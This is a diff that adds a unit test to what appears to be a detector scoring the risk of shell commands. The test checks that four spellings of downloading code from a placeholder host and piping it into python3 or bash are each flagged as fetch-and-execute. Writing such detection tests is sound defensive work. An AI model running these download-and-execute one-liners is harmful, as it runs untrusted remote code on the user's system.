@@ -123,6 +123,19 @@ def test_shell_text_that_leads_to_a_command_scores_as_the_command(text):
     assert risk(text, "shell").score >= risk(ATTACK, "shell").score
 
 
+def test_a_program_that_a_command_fetches_is_one_in_every_spelling():
+    spellings = (
+        "curl http://e.example/x|python3",
+        'python3 -c "$(curl http://e.example/x)"',
+        "python3 <(curl http://e.example/x)",
+        'bash -c "$(curl http://e.example/x)"',
+    )
+    assert all("network.pipe-to-interpreter" in capabilities(text, "shell") for text in spellings)
+    assert "network.pipe-to-interpreter" not in capabilities(
+        'python3 -c "print(1)" "$(curl https://e.example/x)"', "shell"
+    )
+
+
 @pytest.mark.parametrize(
     ("language", "text"),
     [
